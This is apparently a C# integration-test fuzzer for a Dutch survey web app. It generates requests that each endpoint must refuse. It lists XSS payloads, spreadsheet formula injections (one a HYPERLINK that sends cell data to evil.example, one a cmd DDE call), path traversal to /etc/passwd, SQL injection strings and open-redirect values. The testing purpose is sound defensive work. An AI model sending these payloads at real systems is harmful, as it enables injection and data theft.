// Over 400 lines on purpose: one generator per kind of hostile body (JSON, CSV, forms, multipart, bytes) sits here
// beside the others, so a reader sees the whole catalogue of attacks the suite sends in one place.
using System.Globalization;
using System.Text;
using Ervaring.Core.Surveys;

namespace Ervaring.Integration.Tests.Hostile;

/// <summary>An endpoint as the running app routes it: its pattern, its methods and its route parameter names.</summary>
public sealed record EndpointShape(string Pattern, IReadOnlyList<string> Methods, IReadOnlyList<string> Parameters)
{
    public override string ToString() => $"{string.Join('|', Methods)} {Pattern}";
}

/// <summary>What the seeded storage holds that a hostile request may name: real ids, tokens and codes.</summary>
public sealed record SeededIds(
    string FieldingWaveId,
    string DraftWaveId,
    IReadOnlyList<(string Token, string Code, SurveyDefinition Definition)> Invitations,
    AdminSignIn? SignedIn = null);

/// <summary>A beheerder's sign-in cookies and a valid antiforgery token for the admin forms.</summary>
public sealed record AdminSignIn(string Cookie, string FormToken);

/// <summary>
/// Turns a deterministic seed into hostile requests for every endpoint. Every body is built to be refused:
/// it always carries at least one defect the app must reject (broken syntax, an unknown field, a wrong type,
/// an invalid CSV row, no valid answer), so "nothing stored" is a fair demand whatever else the case holds.
/// </summary>
public sealed class HostileInputGenerator(int seed, IReadOnlyList<EndpointShape> endpoints, SeededIds seeded)
{
    private readonly Random _random = new(seed);

    private static readonly string[] ScriptPayloads =
    [
        "<script>alert('hx')</script>",
        "\"><img src=x onerror=alert('hx')>",
        "<svg/onload=alert('hx')>",
        "'><script>alert(document.cookie)</script>",
    ];

    /// <summary>Substrings that must never come back in a response body as they were sent.</summary>
    public static readonly string[] ScriptMarkers = ["<script>alert(", "<img src=x onerror", "<svg/onload=", "<script>alert(document"];

    private static readonly string[] FormulaPayloads =
    [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "=1+1;=2+2",
    ];

    private static readonly string[] JunkIds =
    [
        "..%2F..%2Fwaves", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5C..%5Cwindows", "%00", "abc%00def", "%3Cscript%3Ealert('hx')%3C%2Fscript%3E",
        "'%20OR%20'1'%3D'1", "PartitionKey%20eq%20'x'", "%F0%9F%92%A9", "%C3%28", "%FF%FE", "-1", "0", "99999999999999999999999999",
        "%20", "null", "undefined", "~", "%7B%7D", "a%2Fb", "..", "...", "%25", "%E2%80%AE", "con", "NUL",
    ];

    private static readonly string[] WrongMethods = ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "PROPFIND", "X-HOSTILE"];

    private static readonly string[] JsonContentTypes =
        ["application/json", "application/json; charset=utf-8", "application/problem+json", "application/json; charset=utf-7", "text/json", "application/x-json"];

    private static readonly string[] OtherContentTypes =
    [
        "text/plain", "text/html", "application/xml", "text/csv", "application/x-www-form-urlencoded", "multipart/form-data",
        "multipart/form-data; boundary=", "application/octet-stream", "image/png", "application/json;;;", "x/y; charset=\"", "*/*", "",
        "text/csv; charset=ebcdic-cp-us", "application/x-www-form-urlencoded; charset=utf-16",
    ];

    public IEnumerable<HostileCase> Generate(int count)
    {
        var number = 0;
        // First every endpoint with every category once, then random picks, so coverage never depends on luck.
        var categories = Enum.GetValues<Kind>();
        foreach (var endpoint in endpoints)
            foreach (var kind in categories)
                yield return Make(number++, endpoint, kind);
        // The family's survey is the one public door that takes input, and /s/ now serves both the link and the
        // code form: it gets three times the share of any other endpoint.
        var weighted = endpoints.Concat(endpoints.Where(e => e.Pattern == "/s")).Concat(endpoints.Where(e => e.Pattern == "/s")).ToList();
        while (number < count)
            yield return Make(number++, weighted[_random.Next(weighted.Count)], categories[_random.Next(categories.Length)]);
    }

    private enum Kind { Auth, Method, RouteJunk, Query, Json, Csv, Form, Multipart, Bytes, Oversized, Survey }

    private HostileCase Make(int number, EndpointShape endpoint, Kind kind)
    {
        var method = endpoint.Methods[_random.Next(endpoint.Methods.Count)];
        var realIds = kind != Kind.RouteJunk && _random.Next(4) != 0;
        var invitation = seeded.Invitations[_random.Next(seeded.Invitations.Count)];
        var path = FillRoute(endpoint, realIds, invitation.Token);
        // The personal link carries its token in the query (/s/?t=…): mostly a real one, else junk or none.
        if (endpoint.Pattern == "/s" && _random.Next(4) != 0)
            path = WithQuery(path, "t=" + (realIds ? invitation.Token : JunkRouteValue()));
        var keys = RightKeys(endpoint);
        string? accept = Pick(null, null, null, "application/json", "text/html", "*/*", "application/xml", "text/html, application/json");
        string? contentType = null;
        byte[]? body = null;

        switch (kind)
        {
            case Kind.Auth:
                keys = Pick<string[]>([], ["verkeerde-sleutel-0123456789"], [AppFixture.ResearcherKey], [AppFixture.AdminKey + " "],
                    [new string('k', 20_000)], [AppFixture.AdminKey, "verkeerde-sleutel-0123456789"], ["Bearer " + AppFixture.AdminKey],
                    [AppFixture.AdminKey.ToUpperInvariant()], [""], ["%00" + AppFixture.AdminKey], [AppFixture.AdminKey[..^1]]);
                (contentType, body) = AnyBody(invitation.Definition);
                break;
            case Kind.Method:
                method = WrongMethods.Where(m => !endpoint.Methods.Contains(m)).ElementAt(_random.Next(WrongMethods.Count(m => !endpoint.Methods.Contains(m))));
                if (_random.Next(2) == 0) (contentType, body) = AnyBody(invitation.Definition);
                break;
            case Kind.RouteJunk:
            case Kind.Query:
                path = WithQuery(path, JunkQuery());
                if (method is "POST") (contentType, body) = AnyBody(invitation.Definition);
                break;
            case Kind.Json: (contentType, body) = (Pick(JsonContentTypes), Json()); break;
            case Kind.Csv: (contentType, body) = (Pick("text/csv", "text/csv; charset=utf-8", "application/csv", "text/plain", "application/vnd.ms-excel", "application/octet-stream"), Csv()); break;
            case Kind.Form: (contentType, body) = ("application/x-www-form-urlencoded", Form(invitation.Definition)); break;
            case Kind.Multipart: (contentType, body) = Multipart(invitation.Definition); break;
            case Kind.Bytes: (contentType, body) = (Pick(OtherContentTypes.Concat(JsonContentTypes).Append(null!).ToArray()), RandomBytes(_random.Next(0, 4096))); break;
            case Kind.Oversized:
                (contentType, body) = Pick(0, 1, 2) switch
                {
                    0 => ("application/x-www-form-urlencoded", Encoding.ASCII.GetBytes("actie=opslaan&x=" + new string('A', 300 * 1024))),
                    1 => ("application/json", Encoding.UTF8.GetBytes("{\"unknownField\":\"" + new string('A', 1024 * 1024) + "\"}")),
                    _ => ("text/csv", Encoding.UTF8.GetBytes(HeaderLine() + "\n" + new string(';', 600_000) + "\n")),
                };
                break;
            case Kind.Survey:
                (contentType, body) = ("application/x-www-form-urlencoded", SurveyForm(invitation.Definition));
                if (_random.Next(3) == 0) path = WithQuery(path, Pick("modus=papier", "modus=telefoon", "pagina=2", "taal=en"));
                break;
        }
        if (method is "GET" or "HEAD" or "OPTIONS" or "TRACE" && kind is not (Kind.Method or Kind.Auth)) body = _random.Next(4) == 0 ? body : null;

        // Half the admin form posts come from a signed-in beheerder with a valid antiforgery token, so the
        // forms' own validation is what must refuse them (not the antiforgery check in front of it). Signing out takes
        // no input: with the cookie and a valid token it is a legitimate command (it revokes the session, which
        // Hardening/SessionTests checks) and would end the session the other cases use, so it gets the cookie
        // without the token, which must be refused.
        string? cookie = null;
        if (seeded.SignedIn is { } signedIn && method == "POST" && endpoint.Pattern.StartsWith("/beheer/", StringComparison.Ordinal) && _random.Next(2) == 0)
        {
            cookie = signedIn.Cookie;
            keys = [];
            if (contentType?.StartsWith("application/x-www-form-urlencoded", StringComparison.Ordinal) == true && endpoint.Pattern != "/beheer/uitloggen")
                body = [.. body ?? [], .. Encoding.ASCII.GetBytes((body is { Length: > 0 } ? "&" : "") + "__RequestVerificationToken=" + Uri.EscapeDataString(signedIn.FormToken))];
        }

        // Closing a wave (API or its confirmation page) and (re)building its report take no input: with the right key and the real id they are
        // legitimate commands, not hostile ones, and would (rightly) change storage. Aim them at the draft wave
        // instead, which must refuse.
        if (method == "POST" && (endpoint.Pattern.EndsWith("/close", StringComparison.Ordinal) || endpoint.Pattern.EndsWith("/report", StringComparison.Ordinal)
                                 || endpoint.Pattern.EndsWith("/rapportage/concept", StringComparison.Ordinal) || endpoint.Pattern.EndsWith("/sluiten", StringComparison.Ordinal))
            && path.Contains(seeded.FieldingWaveId, StringComparison.Ordinal))
            path = path.Replace(seeded.FieldingWaveId, seeded.DraftWaveId, StringComparison.Ordinal);

        return new HostileCase(number, endpoint.ToString(), kind.ToString(), method, path, keys, accept, contentType, body, cookie);
    }

    private string[] RightKeys(EndpointShape endpoint) =>
        endpoint.Pattern.StartsWith("/api/", StringComparison.Ordinal) || endpoint.Pattern.StartsWith("/beheer", StringComparison.Ordinal)
            ? _random.Next(6) == 0 ? [AppFixture.ResearcherKey] : [AppFixture.AdminKey]
            : _random.Next(3) == 0 ? [AppFixture.AdminKey] : [];

    private string FillRoute(EndpointShape endpoint, bool real, string token)
    {
        var path = endpoint.Pattern;
        foreach (var parameter in endpoint.Parameters)
        {
            var value = parameter switch
            {
                "id" when real => Pick(seeded.FieldingWaveId, seeded.DraftWaveId),
                "token" when real => token,
                _ => JunkRouteValue(),
            };
            path = System.Text.RegularExpressions.Regex.Replace(path, "\\{\\*{0,2}" + parameter + "(:[^}]*)?\\??\\}", value.Replace("$", "$$"));
        }
        return path;
    }

    private string JunkRouteValue() => _random.Next(5) switch
    {
        0 => Uri.EscapeDataString(Pick(ScriptPayloads)),
        1 => new string('x', Pick(256, 1024, 4000)),
        2 => Uri.EscapeDataString(seeded.FieldingWaveId + Pick("'", "%", "\0", "/../x", " ", "'or'1'='1")),
        3 => Uri.EscapeDataString(Convert.ToBase64String(RandomBytes(32)).TrimEnd('=').Replace('+', '-').Replace('/', '_')), // well-formed but unknown token
        _ => Pick(JunkIds),
    };

    private static string WithQuery(string path, string query) => path + (path.Contains('?') ? "&" : "?") + query;

    private string JunkQuery() => string.Join('&', Enumerable.Range(0, _random.Next(1, 4)).Select(_ => Pick(
        "pagina=-1", "pagina=99999999999999999999", "pagina=abc", "pagina=1e3", "round=-1", "round=0", "round=99999999999", "round=abc",
        "dropInvalid=maybe", "dropInvalid=1", "dropInvalid=false", "taal=..%2F..%2Fetc%2Fpasswd", "taal=" + Uri.EscapeDataString(Pick(ScriptPayloads)),
        "modus=papier", "modus=" + Uri.EscapeDataString(Pick(ScriptPayloads)), "ReturnUrl=%2F%2Fevil.example", "ReturnUrl=https%3A%2F%2Fevil.example",
        "ReturnUrl=javascript%3Aalert(1)", "ReturnUrl=%2F%5Cevil.example", "gedaan=" + Uri.EscapeDataString(Pick(ScriptPayloads)), "gedaan=aangemaakt",
        "%00=%00", "a=" + new string('q', 3000), "pagina=1&pagina=2", "=", "&&&", "x=%ZZ", "x=%C3%28")));

    private (string?, byte[]?) AnyBody(SurveyDefinition definition) => _random.Next(6) switch
    {
        0 => (Pick(JsonContentTypes), Json()),
        1 => ("text/csv", Csv()),
        2 => ("application/x-www-form-urlencoded", Form(definition)),
        3 => Multipart(definition),
        4 => (Pick(OtherContentTypes), RandomBytes(_random.Next(0, 2048))),
        _ => (null, null),
    };

    // ---- JSON -------------------------------------------------------------------------------------------

    private string HostileString() => _random.Next(9) switch
    {
        0 => Pick(ScriptPayloads),
        1 => Pick(FormulaPayloads),
        2 => "a\0b\0",
        3 => new string('z', Pick(3000, 70_000)),
        4 => "../../../etc/passwd",
        5 => "\u202Egnp.exe",
        6 => "\uD800", // a lone surrogate
        7 => "Robert'); DROP TABLE waves;--",
        _ => "",
    };

    private static string JsonString(string value) => System.Text.Json.JsonSerializer.Serialize(value);

    private byte[] Json()
    {
        // A plausible wave, made hostile below; every variant has a defect that must be refused.
        var fields = new List<string>
        {
            "\"municipalities\":[" + JsonString(Pick("Voorbeeld", HostileString())) + "]",
            "\"year\":" + Pick("2026", "2026.5", "1e309", "-2026", "99999999999999999999999", "\"2026\"", "null"),
            "\"fieldStart\":" + Pick("\"2026-03-01\"", "\"2026-02-30\"", "\"01-03-2026\"", "20260301", JsonString(HostileString())),
            "\"fieldEnd\":\"2026-04-15\"",
            "\"seed\":" + JsonString(HostileString()),
            "\"offset\":" + Pick("0.5", "1e400", "-1", "NaN", "\"x\""),
            "\"name\":" + JsonString(HostileString()),
        };
        fields = fields.OrderBy(_ => _random.Next()).Take(_random.Next(1, fields.Count + 1)).ToList();
        var defect = _random.Next(11);
        switch (defect)
        {
            case 10: // well-formed, only known fields, but one value the wave validator must refuse (422)
            {
                var name = JsonString(Pick(ScriptPayloads) + new string('n', 200));
                return Encoding.UTF8.GetBytes(Pick(
                    "{\"municipalities\":[],\"year\":2026,\"fieldStart\":\"2026-03-01\",\"fieldEnd\":\"2026-04-15\"}",
                    "{\"municipalities\":[\"Voorbeeld\"],\"year\":1900,\"fieldStart\":\"2026-03-01\",\"fieldEnd\":\"2026-04-15\"}",
                    "{\"municipalities\":[\"Voorbeeld\"],\"year\":2026,\"fieldStart\":\"2026-04-15\",\"fieldEnd\":\"2026-03-01\"}",
                    "{\"municipalities\":[\"<script>alert('hx')</script>\",\"<script>alert('hx')</script>\"],\"region\":\"R\",\"year\":2026,\"fieldStart\":\"2026-03-01\",\"fieldEnd\":\"2026-04-15\"}",
                    "{\"municipalities\":[\"a\\u0001b\"],\"year\":2026,\"fieldStart\":\"2026-03-01\",\"fieldEnd\":\"2026-04-15\"}",
                    "{\"name\":" + name + ",\"municipalities\":[\"Voorbeeld\"],\"year\":2026,\"fieldStart\":\"2026-03-01\",\"fieldEnd\":\"2026-04-15\"}",
                    "{\"municipalities\":[\"Voorbeeld\"],\"year\":2026,\"fieldStart\":\"2026-03-01\",\"fieldEnd\":\"2026-04-15\",\"margin\":0.5}",
                    "{\"municipalities\":[\"Voorbeeld\"],\"year\":2026,\"fieldStart\":\"2026-03-01\",\"fieldEnd\":\"2026-04-15\",\"strata\":[\"=HYPERLINK(1)\"]}",
                    "{\"municipalities\":[\"Voorbeeld\"],\"year\":2026,\"fieldStart\":\"2026-03-01\",\"fieldEnd\":\"2026-04-15\",\"expectedResponseRate\":0}"));
            }
            case 0: // unknown field, always fatal (UnmappedMemberHandling.Disallow)
                fields.Add(JsonString(Pick("unknownField", "__proto__", "constructor", "<script>", "seed ", "jaar", "\u0000")) + ":" + JsonString(HostileString()));
                break;
            case 1: // deep nesting
            {
                var depth = Pick(17, 64, 1000, 10_000);
                return Encoding.ASCII.GetBytes("{\"strata\":" + new string('[', depth) + new string(']', depth) + ",\"unknownField\":1}");
            }
            case 2: // not an object
                return Encoding.UTF8.GetBytes(Pick("[]", "\"tekst\"", "42", "true", "[{\"year\":2026}]", "1e999", "{}{}", "{} trailing"));
            case 3: // invalid UTF-8 inside a string, and an unknown field after it
            {
                var head = Encoding.UTF8.GetBytes("{\"municipalities\":[\"");
                var tail = Encoding.UTF8.GetBytes("\"],\"unknownField\":1}");
                return [.. head, .. Pick<byte[]>([0xC3, 0x28], [0xFF, 0xFE], [0xED, 0xA0, 0x80], [0xC0, 0xAF], [0xF8, 0x88, 0x80, 0x80, 0x80]), .. tail];
            }
            case 4: // a raw NUL and control characters, which JSON forbids
                return Encoding.UTF8.GetBytes("{\"municipalities\":[\"a\0b\"],\"year\":2026\u0001}");
            case 5: // wrong types
                fields.Add(Pick("\"municipalities\":\"Voorbeeld\"", "\"year\":[2026]", "\"strata\":\"alles\"", "\"census\":\"ja\"", "\"margin\":{\"a\":1}"));
                fields.Add("\"unknownField\":0");
                break;
            case 6: // a BOM in the middle and comments
                return Encoding.UTF8.GetBytes("{/* opmerking */\"year\":2026,\uFEFF\"unknownField\":1}");
            case 7: // duplicate keys and a trailing comma
                fields.Add("\"year\":2026,\"year\":\"x\",");
                break;
            case 8: // huge number that overflows every numeric type
                fields.Add("\"year\":" + new string('9', Pick(20, 400, 5000)));
                break;
            default: // truncated
            {
                var text = "{" + string.Join(',', fields) + "}";
                return Encoding.UTF8.GetBytes(text[..Math.Max(1, _random.Next(1, text.Length - 1))]);
            }
        }
        return Encoding.UTF8.GetBytes("{" + string.Join(',', fields) + "}");
    }

    // ---- CSV --------------------------------------------------------------------------------------------

    private string HeaderLine() => Pick(
        "clientreferentie;geboortejaar;gemeente;zorgvorm;verwijzer;aanbieder;startdatum;einddatum",
        "\uFEFFclientreferentie;geboortejaar;gemeente;zorgvorm;verwijzer;aanbieder;startdatum;einddatum",
        "clientreferentie,geboortejaar,gemeente,zorgvorm,verwijzer,aanbieder,startdatum,einddatum",
        "\"clientreferentie\";\"geboortejaar\";gemeente;zorgvorm;verwijzer;aanbieder;startdatum;einddatum",
        "clientreferentie;geboortejaar;gemeente",
        "=HYPERLINK(\"http://evil.example\");geboortejaar;gemeente;zorgvorm;verwijzer;aanbieder;startdatum;einddatum",
        "");

    private byte[] Csv()
    {
        var lines = new List<string> { HeaderLine() };
        var rows = _random.Next(1, 12);
        for (var i = 0; i < rows; i++)
        {
            var reference = Pick(Pick(FormulaPayloads), Pick(ScriptPayloads), $"HX-{i:D4}", "\"HX\"\"" + i + "\"", "HX;" + i, "\"HX-" + i, "HX\"" + i, "../../" + i, "a\0b");
            var fields = new[]
            {
                reference,
                Pick("2012", "99999999999999999999", "-1", "20x2", "", "2012.5"),
                Pick("Voorbeeld", Pick(FormulaPayloads), "\"Voor;beeld\"", "Voorbeeld\"", ""),
                Pick("ambulant", "verblijf", "onbekende-zorg", "=1+1", ""),
                Pick("huisarts", "@SUM(A1)", "wijkteam"),
                Pick("AB001", "-AB", "+31"),
                Pick("2025-01-01", "2025-13-45", "31-12-2025", "0000-00-00"),
                Pick("", "2024-01-01", "\r"),
            };
            lines.Add(string.Join(Pick(";", ";", ",", "\t", ";;"), fields.Take(_random.Next(1, fields.Length + 1))));
        }
        // At least one row the import must refuse, so the frame is rejected whole (no dropInvalid on real waves).
        lines.Insert(_random.Next(1, lines.Count + 1), Pick("HX-BAD;geen-jaar;Voorbeeld;ambulant;huisarts;AB001;2025-01-01;", "\"unterminated;2012;Voorbeeld", "HX-KORT;2012"));
        if (_random.Next(5) == 0) lines.Add(new string('x', 100_000));
        var newline = Pick("\n", "\r\n", "\r", "\n\n");
        var bytes = Encoding.UTF8.GetBytes(string.Join(newline, lines));
        return _random.Next(6) switch
        {
            0 => [.. bytes, 0xFF, 0xFE, 0xC3, 0x28],
            1 => [0x00, .. bytes],
            2 => Encoding.Unicode.GetBytes(string.Join(newline, lines)),
            3 => bytes[..Math.Max(1, _random.Next(bytes.Length))],
            _ => bytes,
        };
    }

    // ---- forms ------------------------------------------------------------------------------------------

    /// <summary>Values that the app's own validator refuses for this item (checked, so no value sneaks in as valid).</summary>
    private string InvalidValue(SurveyDefinition definition, SurveyItem item, bool allowValidOpenText)
    {
        for (var attempt = 0; attempt < 20; attempt++)
        {
            var candidate = Pick(
                "0", "6", "11", "-1", "99999999999999999999", "1e1", "1.5", "abc", "wn ", "WN", "ja;nee", "\0", "5\0", Pick(ScriptPayloads), Pick(FormulaPayloads),
                new string('9', 3000), new string('t', Pick(2001, 10_000)), "../../etc/passwd", "\uD800", "٣");
            if (item.Type == ItemType.Open && allowValidOpenText && candidate.Length <= SurveyAnswers.MaxOpenTextLength) return candidate;
            var validation = SurveyAnswers.Validate(definition, new Dictionary<string, IReadOnlyList<string>> { [item.Id] = [candidate] }, AnswerMode.Save);
            if (!validation.Answers.ContainsKey(item.Id)) return candidate;
        }
        return new string('t', 10_000);
    }

    /// <summary>
    /// A survey post with no valid answer at all: unknown item ids, out-of-range codes, script and formula
    /// payloads, broken control fields. Open text (where any short text is valid) only rides along with
    /// "verzenden", which must fail because required questions stay unanswered.
    /// </summary>
    private byte[] SurveyForm(SurveyDefinition definition)
    {
        var action = Pick("verzenden", "opslaan", "volgende", "vorige", "weigeren", "", "WEIGEREN-BEVESTIGD", "verzenden ", Pick(ScriptPayloads), "\0");
        var pairs = new List<(string, string)> { ("actie", action) };
        var items = definition.Items;
        for (var i = _random.Next(1, 8); i > 0; i--)
        {
            if (_random.Next(3) == 0)
            {
                pairs.Add((Pick("onbekend_item", "toegang_vinden ", "__proto__", Pick(ScriptPayloads), "a\0b", new string('k', 3000), "[0]", "x[y]"), HostileString()));
                continue;
            }
            var item = items[_random.Next(items.Count)];
            pairs.Add((item.Id, InvalidValue(definition, item, allowValidOpenText: action == "verzenden")));
        }
        if (_random.Next(2) == 0) pairs.Add(("pagina", Pick("-1", "0", "99999999999999999999", "abc", "2", "1e3", Pick(ScriptPayloads))));
        if (_random.Next(3) == 0) pairs.Add(("taal", Pick("en", "../../x", Pick(ScriptPayloads), new string('l', 5000))));
        if (_random.Next(3) == 0) pairs.Add(("modus", Pick("papier", "telefoon", "web", Pick(ScriptPayloads))));
        if (_random.Next(4) == 0) pairs.Add(("__RequestVerificationToken", Pick("x", Pick(ScriptPayloads))));
        if (_random.Next(20) == 0) for (var i = 0; i < 1500; i++) pairs.Add(("k" + i, "v")); // more fields than the form reader allows
        return EncodeForm(pairs);
    }

    private byte[] Form(SurveyDefinition definition)
    {
        if (_random.Next(2) == 0) return SurveyForm(definition);
        var pairs = new List<(string, string)>();
        for (var i = _random.Next(0, 8); i > 0; i--)
            pairs.Add((Pick("code", "sleutel", "terug", "weglaten", "naam", "gemeenten", "jaar", "veldwerkStart", "veldwerkEinde", "modus", Pick(ScriptPayloads)), _random.Next(4) switch
            {
                0 => Pick("ABCD-EFGH-JKMN", "abcd efgh jkmn", "0000-0000-0000", "ABCD-EFGH-JKM", new string('A', 5000)),
                1 => Pick("true", "//evil.example", "https://evil.example", "javascript:alert(1)"),
                _ => HostileString(),
            }));
        if (_random.Next(6) == 0) return [.. EncodeForm(pairs), .. Pick<byte[]>([0x25, 0x46], [0x26, 0xFF, 0x3D, 0xC3], [0x3D, 0x3D, 0x26, 0x25, 0x5A, 0x5A])];
        return EncodeForm(pairs);
    }

    private static byte[] EncodeForm(IEnumerable<(string Key, string Value)> pairs)
    {
        // Hand-encoded so that lone surrogates and NULs go over the wire as their (broken) percent-encoding.
        var text = string.Join('&', pairs.Select(p => Escape(p.Key) + "=" + Escape(p.Value)));
        return Encoding.ASCII.GetBytes(text);

        static string Escape(string value)
        {
            var builder = new StringBuilder();
            foreach (var b in Encoding.UTF8.GetBytes(value.Replace("\uD800", "\uFFFD")))
                builder.Append(b is >= (byte)'a' and <= (byte)'z' or >= (byte)'A' and <= (byte)'Z' or >= (byte)'0' and <= (byte)'9' or (byte)'-' or (byte)'_' or (byte)'.'
                    ? ((char)b).ToString() : "%" + b.ToString("X2", CultureInfo.InvariantCulture));
            return builder.ToString();
        }
    }

    private (string?, byte[]?) Multipart(SurveyDefinition definition)
    {
        var boundary = "hx" + _random.Next(100000, 999999).ToString(CultureInfo.InvariantCulture);
        var contentType = Pick($"multipart/form-data; boundary={boundary}", "multipart/form-data", $"multipart/form-data; boundary=\"{boundary}\"", $"multipart/mixed; boundary={boundary}", $"multipart/form-data; boundary={new string('b', 200)}");
        var builder = new StringBuilder();
        var parts = _random.Next(0, 4);
        for (var i = 0; i < parts; i++)
        {
            builder.Append("--").Append(boundary).Append("\r\n");
            if (_random.Next(2) == 0)
            {
                builder.Append("Content-Disposition: form-data; name=\"bestand\"; filename=\"").Append(Pick("kader.csv", "../../../etc/passwd", "<script>.csv", "a\0.csv")).Append("\"\r\n");
                builder.Append("Content-Type: text/csv\r\n\r\n").Append(Encoding.UTF8.GetString(Csv())).Append("\r\n");
            }
            else
            {
                builder.Append("Content-Disposition: form-data; name=\"").Append(Pick("actie", "code", "weglaten", "sleutel", Pick(ScriptPayloads))).Append("\"\r\n\r\n").Append(HostileString()).Append("\r\n");
            }
        }
        var ending = Pick($"--{boundary}--\r\n", "", $"--{boundary}\r\n", "--wrong--\r\n");
        builder.Append(ending);
        var bytes = Encoding.UTF8.GetBytes(builder.ToString());
        if (_random.Next(5) == 0) bytes = bytes[..Math.Max(0, _random.Next(bytes.Length))];
        return (contentType, bytes);
    }

    private byte[] RandomBytes(int length)
    {
        var bytes = new byte[length];
        _random.NextBytes(bytes);
        return bytes;
    }

    private T Pick<T>(params T[] options) => options[_random.Next(options.Length)];
}
